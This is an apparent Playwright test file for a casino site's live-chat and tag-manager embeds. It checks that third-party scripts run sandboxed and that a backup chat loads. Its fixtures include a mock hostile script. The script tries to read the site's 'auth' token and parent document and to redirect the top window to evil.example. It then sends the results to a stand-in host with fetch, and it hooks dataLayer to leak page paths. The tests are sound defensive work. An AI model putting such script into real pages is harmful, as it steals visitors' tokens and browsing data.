import { rmSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { freePlace, type Place, startApp } from '../kit/app.ts'
import { expect, test } from '../kit/journey.ts'
import { expectAccessible, overflow } from '../kit/looks.ts'

/** What a script of others tries: each answer is sent to its own address, where the test reads it. */
const GREEDY = `
const attempt = (read) => { try { return String(read()) } catch (error) { return error.name } }
const found = {
  origin: self.origin,
  token: attempt(() => localStorage.getItem('auth')),
  parent: attempt(() => parent.document.title),
  above: attempt(() => { top.location.href = 'https://evil.example/' }),
}
fetch('https://guests.example/found?' + new URLSearchParams(found), { mode: 'no-cors' })
`
const CHAT = `${GREEDY}
window.liveChat = {
  open: () => {
    if (!document.querySelector('p')) document.body.append(document.createElement('p'))
    document.querySelector('p').textContent = 'Hello ' + (window.opened = (window.opened ?? 0) + 1)
  },
}
`
const TAGS = `${GREEDY}
const push = dataLayer.push.bind(dataLayer)
dataLayer.push = (one) => {
  fetch('https://guests.example/page?at=' + encodeURIComponent(one.page), { mode: 'no-cors' })
  return push(one)
}
`

// Visitors find support in the bottom bar.
test.use({ viewport: { width: 390, height: 844 } })

let place: Place
let app: Awaited<ReturnType<typeof startApp>>
test.beforeAll(async () => {
  place = await freePlace()
  app = await startApp(place, {
    TAG_MANAGER_ID: 'TAG-1',
    TAG_MANAGER_URL: 'https://guests.example/tags.js',
    LIVE_CHAT_URL: 'https://guests.example/chat.js',
    LIVE_CHAT_BACKUP_URL: 'https://guests.example/backup.js',
  })
})
test.afterAll(async () => {
  await app.stop('SIGTERM')
  rmSync(place.dataDir, { recursive: true, force: true })
})

/** The site with these guests, and what they told their own address. */
async function visit(page: Page, scripts: Record<string, string>) {
  const told: URL[] = []
  await page.context().route('https://guests.example/**', (route) => {
    const url = new URL(route.request().url())
    const script = scripts[url.pathname]
    if (script !== undefined) {
      return route.fulfill({ contentType: 'text/javascript', body: script })
    }
    if (url.pathname.endsWith('.js')) return route.abort()
    told.push(url)
    return route.fulfill({ body: '' })
  })
  await page.addInitScript(() => {
    addEventListener('message', ({ data }) => {
      if (data?.guest === 'chat') document.documentElement.dataset.hasChat = ''
    })
  })
  await page.goto(`http://localhost:${place.port}/casino/slot`)
  return { at: (path: string) => told.filter(({ pathname }) => pathname === path) }
}

async function openSupport(page: Page) {
  await page.locator('html[data-has-chat]').waitFor({ state: 'attached' })
  await page.getByRole('button', { name: 'Destek', exact: true }).filter({ visible: true }).click()
}

test('H22: a chat and a tag manager run where they read nothing of the site', async ({ page }) => {
  const { at } = await visit(page, { '/chat.js': CHAT, '/tags.js': TAGS })
  await expect.poll(() => at('/found').length).toBe(2)
  for (const { searchParams } of at('/found')) {
    expect(Object.fromEntries(searchParams)).toEqual({
      origin: 'null',
      token: 'SecurityError',
      parent: 'SecurityError',
      above: 'SecurityError',
    })
  }
  await page.locator('a[href="/casino/live"]').filter({ visible: true }).first().click()
  await expect
    .poll(() => at('/page').map(({ searchParams }) => searchParams.get('at')))
    .toEqual(['/casino/slot', '/casino/live'])
  expect(new URL(page.url()).hostname).toBe('localhost')
})

test('§9 Live chat: the operator’s chat opens in a panel, and its conversation outlives it', async ({
  page,
}) => {
  await visit(page, { '/chat.js': CHAT })
  await openSupport(page)
  const panel = page.getByRole('dialog', { name: 'Canlı Destek' })
  const chat = panel.frameLocator('iframe')
  await expect(chat.getByText('Hello 1')).toBeVisible()
  for (const width of [390, 768, 1440]) {
    await page.setViewportSize({ width, height: 844 })
    await expectAccessible(page)
    expect(await overflow(page, width)).toEqual([])
  }
  await page.setViewportSize({ width: 390, height: 844 })
  await page.context().setOffline(true)
  await expect(panel.getByText('Bağlantı yok')).toBeVisible()
  await page.context().setOffline(false)
  await panel.getByRole('button', { name: 'Kapat' }).click()
  await expect(panel).toBeHidden()
  await openSupport(page)
  await expect(chat.getByText('Hello 2')).toBeVisible()
  await panel.getByRole('button', { name: 'Kapat' }).press('Escape')
  await expect(panel).toBeHidden()
})

test('§9 Live chat: a chat that does not come is replaced by its backup', async ({ page }) => {
  await visit(page, { '/backup.js': CHAT })
  await expect(page.locator('iframe[src="/guest-frame/chat-backup"]')).toBeAttached()
  await openSupport(page)
  const panel = page.getByRole('dialog', { name: 'Canlı Destek' })
  await expect(panel.frameLocator('iframe').getByText('Hello 1')).toBeVisible()
})
